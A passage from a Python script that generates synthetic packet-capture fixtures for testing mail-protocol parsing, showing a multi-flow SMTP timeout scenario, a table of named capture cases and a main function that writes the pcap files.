    with no FIN/RST (left idle); flow 3 (00:23) complete, with a 12-minute
    pause between its RCPT and DATA inside the session."""
    cap = Capture("eth")
    minute = 60 * 1000000

    def session(tag):
        msg = message_lines(FROM, RCPTS[:1], "timeout test " + tag, ["flow " + tag],
                            msgid="to" + tag)
        return transcript(PLAIN_GREETING + mail_transaction(FROM, RCPTS[0], msg, "4TqTIME" + tag))

    simple_flow(cap, session("1"), cport=40011, t=T0)
    f2 = Flow(cap, CLIENT4, SERVER4, 40012, 25, T0 + 11 * minute,
              isn_c=2000000, isn_s=6000000)
    f2.handshake()
    f2.run(session("2")[:6])  # through the RCPT reply, then silence
    f3 = Flow(cap, CLIENT4, SERVER4, 40013, 25, T0 + 23 * minute,
              isn_c=3000000, isn_s=7000000)
    f3.handshake()
    s3 = session("3")
    f3.run(s3[:6])
    f3.tick(12 * minute)
    f3.run(s3[6:])
    f3.close()
    cap.write(path)


CAPTURES = {
    "link-vlan": link_capture("vlan"),
    "link-qinq": link_capture("qinq"),
    "link-ipv6": link_capture("eth", v6=True),
    "link-sll": link_capture("sll"),
    "link-sll2": link_capture("sll2"),
    "link-raw": link_capture("raw"),
    "link-null": link_capture("null"),
    "mirror-vxlan": link_capture("vxlan"),
    "mirror-erspan-ipv6": link_capture("erspan", v6=True),
    "tcp-reorder": tcp_reorder,
    "tcp-gap": tcp_gap,
    "tcp-ack-first": tcp_ack_first,
    "ip-fragments": ip_fragments,
    "smtp-bdat": smtp_bdat,
    "smtp-pipelining": smtp_pipelining,
    "smtp-8080": smtp_8080,
    "imap-literalplus": imap_literalplus,
    "pop3-pipelined": pop3_pipelined,
    "not-mail-on-25": not_mail_on_25,
    "midstream": midstream,
    "smtp-http-connect": smtp_http_connect,
    "proxy-connect-refused": proxy_connect_refused,
    "several-flows-timeout": several_flows_timeout,
    "starttls-cleartext": starttls_cleartext,
    "smtp-stealer-report": smtp_stealer_report,
    "smtp-offload": smtp_offload,
}


def main(argv):
    outdir = argv[1] if len(argv) > 1 else os.path.join(
        os.path.dirname(os.path.abspath(__file__)), "..", "pcaps")
    names = argv[2:] or sorted(CAPTURES)
    os.makedirs(outdir, exist_ok=True)
    for name in names:
        if name not in CAPTURES:
            sys.exit("unknown capture %r; known: %s" % (name, " ".join(sorted(CAPTURES))))
        path = os.path.join(outdir, name + ".pcap")
        CAPTURES[name](path)
        print("wrote", path)


if __name__ == "__main__":
    main(sys.argv)
